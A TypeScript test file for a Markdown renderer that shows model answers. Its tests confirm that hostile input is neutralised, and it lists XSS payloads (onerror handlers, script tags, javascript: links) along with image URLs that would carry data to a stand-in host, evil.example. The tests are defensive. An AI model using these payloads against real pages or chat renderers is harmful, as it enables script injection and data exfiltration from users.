import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { hiddenTarget, Markdown, OperatorText } from "./markdown";

const rendered = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

test("FC-037: an answer's HTML never becomes HTML, whatever it tries", () => {
  for (const text of [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "before <script>alert(1)</script> after",
    "<!-- a comment -->",
    "- <iframe src=x></iframe>",
    "> <b onclick=alert(1)>x</b>",
    '<form action="https://evil.example"><input name=password></form>',
    "<style>body{display:none}</style>",
    '<section class="card"><button>Apply change</button></section>',
    '<details ontoggle="alert(1)" open><summary onclick="alert(1)" style="position:fixed">x</summary>y</details>',
    '<br onload=alert(1)>',
  ]) {
    const html = rendered(text);
    expect(html, text).not.toMatch(/<(img|svg|script|iframe|b|form|input|style|section|button)\b|<!--|<[^>]*\s(on\w+|style|class="card)/);
  }
});

test("nothing is loaded from elsewhere, so that no address can carry data away", () => {
  for (const text of ["![a](https://evil.example/p.png?d=secret)", "![a][r]\n\n[r]: https://evil.example/p.png", "[![a](https://evil.example/p.png)](https://evil.example)", '<img src="https://evil.example/p.png">', '<picture><source srcset="https://evil.example/p.png"></picture>', '<link rel=stylesheet href="https://evil.example">', '<video poster="https://evil.example/p.png">']) {
    expect(rendered(text), text).not.toMatch(/<(img|source|picture|link|video)\b|<[^>]*\s(src|srcset|poster)=/);
  }
});

test("of an image its words are left", () => {
  expect(rendered("See ![the graph](https://evil.example/p.png) here")).toContain("See the graph here");
});

test("FC-037: only web and mail addresses become links", () => {
  for (const text of ["[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](data:text/html,x)", "[a](vbscript:x)", "[a](/settings/users)", "[a](//evil.example)", "[a](checkstack:x)", "<javascript:alert(1)>", "[a](file:///etc/passwd)", "[a](&#106;avascript:alert(1))"]) {
    expect(rendered(text), text).not.toContain("<a ");
  }
  const html = rendered("[runbook](https://example.com/?a=1&b=2)");
  expect(html).toContain('href="https://example.com/?a=1&amp;b=2"');
  expect(html).toContain('rel="noopener noreferrer"');
  expect(rendered(`https://example.com/"onmouseover="alert(1)`)).not.toMatch(/<[^>]*\sonmouseover=/);
});

test("a link says where it leads when its text does not", () => {
  expect(rendered("[runbook](https://example.com/r)")).toContain(" (example.com)");
  expect(rendered("[https://bank.example](https://evil.example)")).toContain(" (evil.example)");
  expect(rendered("https://example.com/r")).not.toContain(" (example.com)");
  expect(hiddenTarget("https://example.com/a", "example.com/a")).toBeUndefined();
  expect(hiddenTarget("https://example.com/", "https://example.com")).toBeUndefined();
  // A text that merely contains or begins like the host is no address of it.
  expect(hiddenTarget("https://evil.example/", "bank.example of evil.example")).toBe("evil.example");
  expect(hiddenTarget("https://evil.example/", "evil.example.bank.example")).toBe("evil.example");
  expect(hiddenTarget("https://bank.example@evil.example/", "bank.example")).toBe("evil.example");
  expect(hiddenTarget("mailto:ops@example.com", "Ops")).toBe("ops@example.com");
  expect(hiddenTarget("mailto:ops@example.com", "ops@example.com")).toBeUndefined();
  // Direction marks of the text stay inside of it.
  expect(rendered("[a\u202eb](https://evil.example)")).toMatch(/<bdi>a\u202eb<\/bdi><\/a><bdi[^>]*> \(evil\.example\)/);
});

test("folded sections and line breaks work, also while the text is still coming", () => {
  const whole = "<details>\n<summary>Why *so*</summary>\n\n**Because** of\n\n- a list\n\n</details>\n\nAfter";
  const html = rendered(whole);
  expect(html).toMatch(/<details><summary>Why \*so\*<\/summary>\s*<p dir="auto"><strong>Because<\/strong>/);
  expect(html).toMatch(/<\/details>[\s\S]*<p dir="auto">After/);
  for (let i = 0; i <= whole.length; i++) rendered(whole.slice(0, i));
  expect(rendered("<details><summary>A</summary>one\n\ntwo")).toMatch(/<details><summary>A<\/summary>/);
  expect(rendered("| a |\n|-|\n| x<br>y |")).toMatch(/x<br\/?>\s*y/);
  expect(rendered("`<details>` is a tag")).toContain("&lt;details&gt;");
});

test("tables and strikethrough are rendered", () => {
  const html = rendered("| a | b |\n|-|-|\n| 1 | ~~2~~ |");
  expect(html).toContain("<table>");
  expect(html).toContain("<del>2</del>");
});

test("an address with broken percent-encoding is shown as it is", () => {
  expect(rendered("[us](mailto:%ff)")).toContain(" (%ff)");
  expect(rendered("<a%ff@example.com>")).toContain("%ff");
  expect(hiddenTarget("mailto:%E0%A4%A", "x")).toBe("%E0%A4%A");
  expect(hiddenTarget("mailto:a%40b", "x")).toBe("a@b");
});

// Numbers that are the same in each run.
function dice(seed: number) {
  let state = seed;
  return (below: number) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

test("nothing that a model can write keeps the rest from being shown", () => {
  const pieces = ["[", "]", "(", ")", "<", ">", "!", "`", "|", "*", "_", "~", "#", ":", "/", "\\", "&", ";", "\n", "\n\n", " ", "%ff", "%", "%E0%A4", "%00", "mailto:", "https://", "http://[::1", "HTTPS://\u0000", "javascript:", "data:", "checkstack:system/x", "checkstack:%", "//", "//[", "@", "x@y.z", "www.", "xn--", "<a href=mailto:%ff>", "<img src=%>", "<details>", "</details>", "<summary>", "</summary>", "<br>", "<!--", "<![CDATA[", "&#xD800;", "&#99999999;", "\ud800", "\udc00", "\u202e", "\u2066", "[^1]", "[^1]: ", "| a |\n|-|\n", "- [ ] ", "> ", "1. ", "99999999999. ", "```", "~~", "[x]: mailto:%ff\n", "[x]", "![x](mailto:%ff)", "[x](<", "[x](mailto:%ff 'y')", "<mailto:%ff>", "<https://%ff>", "[a](https://%ff)", "[a](https://a:99999)", "[a](https://u:p@h)", "text"];
  const next = dice(37);
  for (let i = 0; i < 200; i++) {
    const text = Array.from({ length: 1 + next(12) }, () => pieces[next(pieces.length)]).join("");
    expect(() => rendered(text), JSON.stringify(text)).not.toThrow();
    expect(() => renderToStaticMarkup(<OperatorText text={text} />), JSON.stringify(text)).not.toThrow();
  }
}, 30_000);

test("quotes, lists and sections without end are shown, too, and the words in them", () => {
  for (const text of [`${"> ".repeat(4000)}words`, `${">".repeat(4000)}words`, `${"- ".repeat(4000)}words`, `${"1. ".repeat(4000)}words`, `${"> - 1) ".repeat(2000)}words`, `${"<details>".repeat(2000)}words`, `${"<details>\n\n".repeat(2000)}words`, `before\n\n   ${"* ".repeat(4000)}words`]) {
    expect(rendered(text), text.slice(0, 40)).toContain("words");
    expect(renderToStaticMarkup(<OperatorText text={text} />), text.slice(0, 40)).toContain("words");
  }
  expect(rendered(`${"> ".repeat(20)}words`)).toContain("<blockquote>");
}, 30_000);
